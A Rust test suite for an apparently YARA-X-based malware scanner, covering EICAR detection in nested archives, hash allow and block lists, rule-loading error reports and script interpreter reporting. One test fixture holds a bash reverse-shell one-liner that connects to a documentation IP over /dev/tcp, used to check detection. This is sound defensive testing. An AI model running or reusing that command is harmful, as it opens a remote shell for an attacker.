//! EICAR in and out of archives, hash lists, rule loading reports and script interpreters.

use std::path::PathBuf;

use vigil_scan::{DetectionSource, Engine, HashLists, Limits, Severity, Verdict};

use crate::common::{eicar, gzip_of, tar_of, team_engine, zip_of};

fn detection(result: &vigil_scan::ScanResult) -> &vigil_scan::Detection {
    match &result.verdict {
        Verdict::Malicious(d) => d,
        other => panic!("expected a detection in {}, got {other:?}", result.target),
    }
}

#[test]
fn eicar_plain_file_is_detected() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("eicar.com");
    std::fs::write(&path, eicar()).unwrap();
    let result = team_engine().scan_file(&path, &Limits::default());
    let d = detection(&result);
    assert_eq!(d.rule, "Vigil_EICAR_Test_File");
    assert_eq!(d.threat, "Virus/EICAR_Test_File");
    assert_eq!(d.source, DetectionSource::Rule);
    assert_eq!(d.object, path.display().to_string());
    assert_eq!(result.objects, 1);
}

#[test]
fn eicar_in_a_zip_names_the_member() {
    let zip = zip_of(
        &[("readme.txt", b"hello"), ("dir/eicar.com", &eicar())],
        true,
    );
    let result = team_engine().scan_bytes("outer.zip", &zip, &Limits::default());
    assert_eq!(detection(&result).object, "outer.zip!dir/eicar.com");
}

#[test]
fn eicar_in_a_tar_gz_in_a_zip_names_every_level() {
    let tar = tar_of(&[("notes.txt", b"nothing here"), ("evil/eicar.com", &eicar())]);
    let tgz = gzip_of(&tar);
    let zip = zip_of(&[("inner.tar.gz", &tgz)], true);
    let result = team_engine().scan_bytes("outer.zip", &zip, &Limits::default());
    assert_eq!(
        detection(&result).object,
        "outer.zip!inner.tar.gz!inner.tar!evil/eicar.com"
    );
    // outer.zip, inner.tar.gz, inner.tar, notes.txt, eicar.com
    assert_eq!(result.objects, 5);
}

#[test]
fn eicar_quoted_inside_a_longer_document_is_not_the_test_file() {
    let mut doc = b"The EICAR test file is this line:\n".to_vec();
    doc.extend_from_slice(&eicar());
    let result = team_engine().scan_bytes("doc.txt", &doc, &Limits::default());
    assert_eq!(result.verdict, Verdict::Clean);
}

#[test]
fn clean_archive_is_clean_and_counts_its_members() {
    let tar = tar_of(&[("a.txt", b"alpha"), ("b.txt", b"beta")]);
    let result = team_engine().scan_bytes("c.tar", &tar, &Limits::default());
    assert_eq!(result.verdict, Verdict::Clean);
    assert_eq!(result.objects, 3);
}

fn engine_with(lists: HashLists) -> Engine {
    Engine::builder().team_rules().hash_lists(lists).build().0
}

fn sha(data: &[u8]) -> [u8; 32] {
    use sha2::Digest;
    sha2::Sha256::digest(data).into()
}

#[test]
fn allow_list_beats_a_rule_and_skips_scanning() {
    let mut lists = HashLists::default();
    lists.allow(sha(&eicar()));
    let engine = engine_with(lists);
    let result = engine.scan_bytes("eicar.com", &eicar(), &Limits::default());
    assert_eq!(result.verdict, Verdict::Allowed);
    assert_eq!(
        result.bytes_scanned, 0,
        "an allowed object is not handed to the rules"
    );
    assert_eq!(result.sha256, Some(sha(&eicar())));
}

#[test]
fn allow_list_beats_the_block_list() {
    let data = b"some tool the operator trusts".to_vec();
    let mut lists = HashLists::default();
    lists.block(sha(&data), "Test/Blocked").allow(sha(&data));
    let result = engine_with(lists).scan_bytes("tool", &data, &Limits::default());
    assert_eq!(result.verdict, Verdict::Allowed);
}

#[test]
fn block_list_hits_by_hash_also_inside_archives() {
    let payload = b"\x00\x01 an otherwise unremarkable payload \x02".to_vec();
    let hex = hex::encode(sha(&payload));
    let mut lists = HashLists::default();
    lists.block(
        HashLists::parse_sha256(&hex.to_uppercase()).unwrap(),
        "Trojan/Linux.Test",
    );
    let engine = engine_with(lists);

    let result = engine.scan_bytes("payload.bin", &payload, &Limits::default());
    let d = detection(&result);
    assert_eq!(d.source, DetectionSource::BlockList);
    assert_eq!(d.threat, "Trojan/Linux.Test");
    assert_eq!(d.rule, format!("sha256:{hex}"));
    assert_eq!(d.severity, Severity::High);

    let zip = zip_of(&[("drop/payload.bin", &payload)], true);
    let result = engine.scan_bytes("bundle.zip", &zip, &Limits::default());
    assert_eq!(detection(&result).object, "bundle.zip!drop/payload.bin");

    let other = engine.scan_bytes("other.bin", b"different bytes", &Limits::default());
    assert_eq!(other.verdict, Verdict::Clean);
}

#[test]
fn invalid_hashes_are_refused_with_the_input() {
    for bad in ["abc", &"g".repeat(64), &"a".repeat(63)] {
        let err = HashLists::parse_sha256(bad).unwrap_err().to_string();
        assert!(err.contains(bad), "{err}");
    }
}

#[test]
fn a_broken_rule_file_is_reported_and_the_others_load() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("good.yar"),
        "rule Ops_Good { meta: severity = \"high\" threat = \"Ops/Good\" strings: $a = \"vigil-ops-marker\" condition: $a }",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("broken.yar"),
        "rule Ops_Broken { strings: $a = \"x\" condition: $b }",
    )
    .unwrap();
    std::fs::create_dir(dir.path().join("nested")).unwrap();
    std::fs::write(dir.path().join("nested/syntax.yara"), "rule { condition: }").unwrap();
    std::fs::write(dir.path().join("notes.txt"), "not a rule file").unwrap();

    let (engine, report) = Engine::builder()
        .team_rules()
        .rule_dir(dir.path(), "ops")
        .build();
    let failed: Vec<_> = report.failed().collect();
    assert_eq!(failed.len(), 2, "{failed:#?}");
    let broken = failed
        .iter()
        .find(|f| f.origin.ends_with("broken.yar"))
        .expect("broken.yar reported");
    assert!(
        broken.errors.iter().any(|e| e.contains("$b")),
        "{:?}",
        broken.errors
    );
    assert!(failed
        .iter()
        .any(|f| f.origin.ends_with("nested/syntax.yara")));
    let good = report
        .files
        .iter()
        .find(|f| f.origin.ends_with("good.yar"))
        .unwrap();
    assert!(good.compiled());
    assert_eq!(good.rules, 1);
    assert_eq!(good.namespace, "ops/good");

    let result = engine.scan_bytes("x", b"...vigil-ops-marker...", &Limits::default());
    let d = detection(&result);
    assert_eq!(
        (d.rule.as_str(), d.threat.as_str(), d.severity),
        ("Ops_Good", "Ops/Good", Severity::High)
    );
    // The team pack loaded beside them.
    assert!(engine
        .scan_bytes("eicar", &eicar(), &Limits::default())
        .verdict
        .is_malicious());
}

#[test]
fn a_missing_rule_directory_is_reported_not_fatal() {
    let missing = PathBuf::from("/nonexistent/vigil-rules");
    let (engine, report) = Engine::builder()
        .team_rules()
        .rule_dir(&missing, "ops")
        .build();
    let failed: Vec<_> = report.failed().collect();
    assert_eq!(failed.len(), 1);
    assert!(
        failed[0].errors[0].contains("/nonexistent/vigil-rules"),
        "{:?}",
        failed[0].errors
    );
    assert!(engine.rule_count() > 0);
}

#[test]
fn operator_rules_can_use_loki_globals() {
    let src = r#"rule Ops_Name { condition: filename == "evil.sh" and extension == ".sh" and filepath == "pkg.zip!bin" }"#;
    let (engine, report) = Engine::builder()
        .rule_source("inline", "ops/inline", src)
        .build();
    assert!(report.failed().next().is_none(), "{report:#?}");
    let zip = zip_of(&[("bin/evil.sh", b"echo"), ("bin/good.sh", b"echo")], false);
    let result = engine.scan_bytes("pkg.zip", &zip, &Limits::default());
    assert_eq!(detection(&result).object, "pkg.zip!bin/evil.sh");
}

#[test]
fn version_is_a_hash_of_the_sources() {
    let (a, ra) = Engine::builder().team_rules().build();
    let (b, _) = Engine::builder().team_rules().build();
    assert_eq!(a.version(), b.version());
    assert_eq!(a.version(), ra.version);
    let (c, _) = Engine::builder()
        .team_rules()
        .rule_source("x", "ops/x", "rule X { condition: false }")
        .build();
    assert_ne!(a.version(), c.version());
    assert!(a
        .version()
        .starts_with(&format!("yara-x {}/rules-", vigil_scan::YARA_X_VERSION)));
}

#[test]
fn yara_x_version_constant_matches_the_manifest() {
    let manifest = include_str!("../../Cargo.toml");
    assert!(manifest.contains(&format!(
        "yara-x = {{ version = \"{}\"",
        vigil_scan::YARA_X_VERSION
    )));
}

#[test]
fn scripts_report_their_interpreter() {
    let script = b"#!/usr/bin/env python3\nprint('hello')\n";
    let result = team_engine().scan_bytes("hello.py", script, &Limits::default());
    assert_eq!(result.verdict, Verdict::Clean);
    assert_eq!(result.interpreter.as_deref(), Some("python3"));

    let shell = b"#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n";
    let tar = tar_of(&[("run.sh", shell)]);
    let result = team_engine().scan_bytes("kit.tar", &tar, &Limits::default());
    assert_eq!(result.interpreter, None, "the tar itself is no script");
    // The rule matches the uncompressed tar's own bytes too; the member is named.
    assert_eq!(detection(&result).object, "kit.tar!run.sh");
    assert_eq!(detection(&result).interpreter.as_deref(), Some("bash"));
}

#[test]
fn files_that_cannot_be_scanned_are_errors_naming_the_path() {
    let dir = tempfile::tempdir().unwrap();
    let result = team_engine().scan_file(dir.path(), &Limits::default());
    match &result.verdict {
        Verdict::Error { reason } => assert!(reason.contains("not a regular file"), "{reason}"),
        other => panic!("{other:?}"),
    }
    let missing = dir.path().join("missing");
    match team_engine()
        .scan_file(&missing, &Limits::default())
        .verdict
    {
        Verdict::Error { reason } => assert!(reason.contains("missing"), "{reason}"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn parallel_scan_keeps_the_order_of_the_paths() {
    let dir = tempfile::tempdir().unwrap();
    let mut paths = Vec::new();
    for i in 0..20 {
        let p = dir.path().join(format!("f{i}"));
        std::fs::write(
            &p,
            if i % 3 == 0 {
                eicar()
            } else {
                format!("file {i}").into_bytes()
            },
        )
        .unwrap();
        paths.push(p);
    }
    let results = team_engine().scan_files_parallel(&paths, 2, &Limits::default());
    assert_eq!(results.len(), 20);
    for (i, r) in results.iter().enumerate() {
        assert_eq!(r.target, paths[i].display().to_string());
        assert_eq!(r.verdict.is_malicious(), i % 3 == 0, "{r:?}");
    }
}

#[test]
fn archives_can_be_scanned_as_plain_files() {
    let zip = zip_of(&[("eicar.com", &eicar())], false);
    let flat = Limits {
        open_archives: false,
        ..Limits::default()
    };
    let result = team_engine().scan_bytes("kit.zip", &zip, &flat);
    assert_eq!(result.verdict, Verdict::Clean);
    assert_eq!(result.objects, 1);
    let opened = team_engine().scan_bytes("kit.zip", &zip, &Limits::default());
    assert_eq!(detection(&opened).object, "kit.zip!eicar.com");
}
